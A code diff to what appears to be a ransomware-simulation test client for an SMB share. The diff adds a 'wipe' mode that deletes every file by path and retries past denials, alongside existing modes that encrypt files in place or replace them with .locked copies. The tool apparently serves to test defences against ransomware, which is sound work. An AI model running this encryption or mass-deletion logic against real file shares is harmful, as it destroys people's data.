@@ -4,9 +4,10 @@ and bench: the ransomware on an infected PC that encrypts a mapped share, and th
 keep working on it.
 
   smb-client.py attack  --url smb://127.0.0.1:4450/share/dir --user U --password P
-                        [--mode inplace|newfile] [--retry SECONDS] --log FILE
+                        [--mode inplace|newfile|wipe] [--retry SECONDS] --log FILE
       Encrypt every file under the directory at full speed: in place (read, overwrite with
-      ciphertext, close), or newfile (write NAME.locked, delete NAME). A dropped session or a
+      ciphertext, close), or newfile (write NAME.locked, delete NAME); or wipe: delete every
+      file without opening it (what a blocked client can still try: SMB deletes by path). A dropped session or a
       denied open is retried with a fresh connection, as real ransomware does, until --retry
       seconds have passed since the first failure. FILE gets one line per file damaged
       ("EPOCH PATH", the simulator's format) and '#' comment lines for the rest.
@@ -98,6 +99,11 @@ def attack(a):
     while i < len(todo):
         u = todo[i]
         try:
+            if a.mode == "wipe":
+                ctx.unlink(u)
+                log.write("%.6f %s\n" % (time.time(), u))
+                i += 1
+                continue
             f = ctx.open(u, os.O_RDONLY)
             data = read_all(f)
             f.close()
@@ -231,7 +237,7 @@ def main():
     ap.add_argument("--url", required=True)
     ap.add_argument("--user", required=True)
     ap.add_argument("--password", required=True)
-    ap.add_argument("--mode", choices=["inplace", "newfile"], default="inplace")
+    ap.add_argument("--mode", choices=["inplace", "newfile", "wipe"], default="inplace")
     ap.add_argument("--retry", type=float, default=0)
     ap.add_argument("--log")
     ap.add_argument("--seconds", type=float, default=10)
